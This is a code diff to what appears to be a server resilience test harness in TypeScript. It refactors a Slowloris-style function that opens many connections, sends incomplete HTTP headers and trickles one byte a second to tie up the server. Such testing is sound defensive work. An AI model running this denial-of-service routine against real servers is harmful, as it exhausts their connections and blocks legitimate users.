@@ -182,14 +182,14 @@ export async function frameFlood(
  * F5: many connections that send an incomplete request head, then one header byte a second,
  * and never read or close, whatever the server answers.
  */
-export async function headerTricklers(host: string, port: number, count: number, localAddress = ATTACKER_ADDRESS): Promise<net.Socket[]> {
+export async function headerTricklers(host: string, port: number, count: number, localAddress = ATTACKER_ADDRESS): Promise<{ sockets: net.Socket[]; stop: () => void }> {
   const sockets: net.Socket[] = [];
   for (let i = 0; i < count; i++) {
     const s = net.connect({ host, port, localAddress });
     s.on('error', () => undefined);
     s.setNoDelay(true);
     s.write('GET /healthz HTTP/1.1\r\nHost: x\r\n');
-    // Ignore the 400 and keep our side open.
+    // Ignore the answer and keep our side open.
     s.pause();
     sockets.push(s);
     if (i % 200 === 199) await sleep(10);
@@ -197,9 +197,13 @@ export async function headerTricklers(host: string, port: number, count: number,
   const trickle = setInterval(() => {
     for (const s of sockets) if (!s.destroyed) s.write('X');
   }, 1000);
-  for (const s of sockets) s.once('close', () => undefined);
-  (sockets as net.Socket[] & { stopTrickle?: () => void }).stopTrickle = () => clearInterval(trickle);
-  return sockets;
+  return {
+    sockets,
+    stop: () => {
+      clearInterval(trickle);
+      destroyAll(sockets);
+    },
+  };
 }
 
 export function destroyAll(sockets: Array<{ destroy(): void } | { terminate(): void }>): void {
